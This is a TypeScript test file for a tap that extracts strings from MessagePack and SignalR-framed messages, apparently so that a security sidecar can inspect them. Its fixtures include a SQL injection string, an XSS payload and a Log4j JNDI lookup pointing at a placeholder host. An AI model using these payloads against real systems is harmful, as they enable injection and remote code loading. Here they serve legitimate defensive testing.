/**
 * MessagePack strings against an independent encoder (@msgpack/msgpack, a devDependency): each value is encoded by
 * it, and the strings the tap lists must be the value's strings at their paths, found by walking the JS value.
 */
import { encode } from '@msgpack/msgpack';
import { describe, expect, it } from 'vitest';
import { msgpackStrings } from '#sidecar/protocols/msgpack-strings.ts';

/** The strings of a JS value with the tap's path notation: `.key` for map keys, `[i]` for array items. */
const stringsOf = (value: unknown, path = '$'): [string, string][] => {
  if (typeof value === 'string') return [[path, value]];
  if (Array.isArray(value)) return value.flatMap((item, i) => stringsOf(item, `${path}[${i}]`));
  if (value instanceof Uint8Array || value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, item]) => stringsOf(item, `${path}.${key}`));
};

const values: unknown[] = [
  { type: 2, nsp: '/', data: ['search', { q: "1' OR '1'='1", page: 3 }], id: 7 },
  [
    'chat',
    {
      room: 'lobby',
      text: '<img src=x onerror=alert(1)>',
      at: 1.5,
      big: 2 ** 40,
      neg: -200,
      ok: true,
      none: null,
    },
  ],
  {
    long: 'x'.repeat(300),
    longer: 'y'.repeat(70_000),
    bytes: new Uint8Array([1, 2, 3]),
    nested: { a: { b: { c: 'deep' } } },
  },
  Array.from({ length: 40 }, (_, i) => `item ${i}`),
  { 'key with spaces': 'v', ünïcode: 'ðŸ' },
];

describe('msgpackStrings against @msgpack/msgpack', () => {
  it.each(values.map((v, i) => [i, v]))('value %i: every string at its path', (_i, value) => {
    expect(msgpackStrings(encode(value), 4096)).toEqual(stringsOf(value));
  });

  it('reads SignalR framing: each MessagePack message prefixed with its varint length', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4j lookup, not a template.
    const lookup = '${jndi:ldap://x.example/a}';
    const invocation = encode([1, {}, 'abc', 'SendMessage', ['alice', lookup]]);
    const framed = Uint8Array.from([invocation.length, ...invocation]);
    expect(msgpackStrings(framed, 64)).toEqual([
      ['$[0][2]', 'abc'],
      ['$[0][3]', 'SendMessage'],
      ['$[0][4][0]', 'alice'],
      ['$[0][4][1]', lookup],
    ]);
  });

  it('lists the first `max` strings with their paths, then the others as one, `(rest)`, a line each (ADR 35)', () => {
    const value = { a: Array.from({ length: 10 }, (_, i) => `s${i}`), b: { c: 'last' } };
    expect(msgpackStrings(encode(value), 4)).toEqual([
      ['$.a[0]', 's0'],
      ['$.a[1]', 's1'],
      ['$.a[2]', 's2'],
      ['$.a[3]', 's3'],
      ['(rest)', 's4\ns5\ns6\ns7\ns8\ns9\nlast'],
    ]);
    // SignalR's frames share the count and the rest.
    const frames = [encode(['x', 'y', 'z']), encode(['w'])].flatMap((m) => [m.length, ...m]);
    expect(msgpackStrings(Uint8Array.from(frames), 2)).toEqual([
      ['$[0][0]', 'x'],
      ['$[0][1]', 'y'],
      ['(rest)', 'z\nw'],
    ]);
  });

  it('reads every item of a message, however many: a string after 5000 others is listed', () => {
    // Past 4096 items the message was not taken as MessagePack: nothing of it was judged.
    const value = [...Array(5000).fill(null), "1' OR '1'='1"];
    expect(msgpackStrings(encode(value), 256)).toEqual([['$[5000]', "1' OR '1'='1"]]);
  });

  it('keeps the strings before the cut of a message kept in part, and only when told it was cut', () => {
    const bytes = encode({ first: 'kept', second: 'z'.repeat(500) }).subarray(0, 40);
    expect(msgpackStrings(bytes, 64)).toBeUndefined();
    expect(msgpackStrings(bytes, 64, true)).toEqual([['$.first', 'kept']]);
  });

  it('is undefined for bytes that are not MessagePack to their end, or hold no string', () => {
    expect(msgpackStrings(new TextEncoder().encode('plain text'), 64)).toBeUndefined();
    expect(msgpackStrings(encode([1, 2, 3]), 64)).toBeUndefined();
    expect(msgpackStrings(Uint8Array.of(0xc1), 64)).toBeUndefined();
  });

  it('never throws on random bytes, and is bounded in depth', () => {
    let x = 17;
    for (let n = 0; n < 3_000; n++) {
      const bytes = Uint8Array.from({ length: n % 120 }, () => {
        x = (x * 1_103_515_245 + 12_345) >>> 0;
        return x >>> 24;
      });
      expect(() => msgpackStrings(bytes, 64)).not.toThrow();
    }
    const nested = Uint8Array.from([...Array(10_000).fill(0x91), 0xa1, 0x61]);
    expect(msgpackStrings(nested, 64)).toBeUndefined();
  });
});
